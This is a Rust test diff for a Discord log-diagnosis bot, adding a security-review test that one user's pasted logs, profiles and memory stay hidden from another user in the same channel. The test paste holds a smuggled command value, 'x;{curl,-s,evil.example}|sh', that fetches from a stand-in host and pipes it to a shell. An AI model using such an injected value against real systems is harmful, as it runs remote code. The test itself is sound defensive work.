@@ -285,7 +285,7 @@ async fn deferred_component_is_ephemeral_and_follow_ups_are_retried() {
     handle_interaction(&fast, &diagnose(1_310_000_000_000_001_019, channel, "en-US", PROBE_PASTE)).await;
     let st = state(cfg, Arc::new(SlowStore::new(inner.clone(), Duration::from_millis(400))));
     let id = 1_310_000_000_000_001_020;
-    let press = component(id, channel, "en-US", "cm:show", Some(vec!["fr"]));
+    let press = component(id, channel, "en-US", &format!("cm:show:{channel}:1"), Some(vec!["fr"]));
     let (status, reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&press))).await;
     assert_eq!((status, reply), (StatusCode::OK, json!({ "type": 5, "data": { "flags": 64 } })));
     let hits = hook.wait_for(2).await;
@@ -761,4 +761,44 @@ async fn serve_registers_the_gateway_bots_commands_when_it_has_a_token() {
     assert_eq!(hits.len(), 1);
     assert_eq!((hits[0].method.as_str(), hits[0].path.clone()), ("PUT", format!("/api/v10/applications/{APP_ID}/guilds/{GUILD_ID}/commands")));
     assert_eq!(hits[0].body, clawmedic::discord::interactions::command_definitions(&cfg.settings));
+}
+
+/// Security review H2 through the HTTP interactions endpoint: two users in one ordinary text
+/// channel (type 0). B's reply is what B's paste alone gives, B's autocomplete offers none of
+/// A's profiles, and each has their own memory.
+#[tokio::test]
+async fn two_users_in_one_text_channel_never_see_each_others_paste() {
+    let st = memory_state("http://127.0.0.1:9");
+    let channel = 1_310_000_000_000_002_077;
+    let as_user = |mut v: Value, user: u64| {
+        v["channel"]["type"] = json!(0);
+        v["channel"].as_object_mut().unwrap().remove("parent_id");
+        v["member"]["user"]["id"] = json!(user.to_string());
+        v
+    };
+    let (alice, bob) = (USER_ID, USER_ID + 1);
+    let a_paste = format!("{PROBE_PASTE}\nUnknown provider \"x;{{curl,-s,evil.example}}|sh\". Loaded providers: openai");
+    let a = as_user(diagnose(1_310_000_000_000_001_071, channel, "en-US", &a_paste), alice);
+    let (status, a_reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&a))).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(a_reply.to_string().contains(PIN), "A's reply uses A's paste");
+    let benign = "⚠️ Model login expired on the gateway for openai-codex. Re-auth with `openclaw models auth login --provider openai-codex`, then try again.";
+    let b = as_user(diagnose(1_310_000_000_000_001_072, channel, "en-US", benign), bob);
+    let (_, b_reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&b))).await;
+    // Exactly what a bot with no memory answers for B's paste.
+    let stateless = Deps::new(Arc::new(MemoryStore::new()), BotSettings::default());
+    assert_eq!(b_reply, handle_interaction(&stateless, &b).await.response);
+    for leaked in [PIN, "evil.example", "curl", "message 2"] {
+        assert!(!b_reply.to_string().contains(leaked), "{leaked} of A's paste in B's reply");
+    }
+    let ac = as_user(autocomplete_profile(1_310_000_000_000_001_073, channel, ""), bob);
+    let (_, choices) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
+    assert_eq!(choices, json!({ "type": 8, "data": { "choices": [] } }));
+    let ac = as_user(autocomplete_profile(1_310_000_000_000_001_074, channel, ""), alice);
+    let (_, choices) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
+    assert!(!choices["data"]["choices"].as_array().unwrap().is_empty(), "A sees A's profiles: {choices}");
+    let key = |u| clawmedic::discord::conversation::key_for(channel, false, Some(u)).unwrap();
+    assert_eq!(st.store.load(&key(alice)).await.unwrap().unwrap().messages, 1);
+    assert_eq!(st.store.load(&key(bob)).await.unwrap().unwrap().messages, 1);
+    assert!(st.store.load(&ThreadKey::discord(channel)).await.unwrap().is_none());
 }
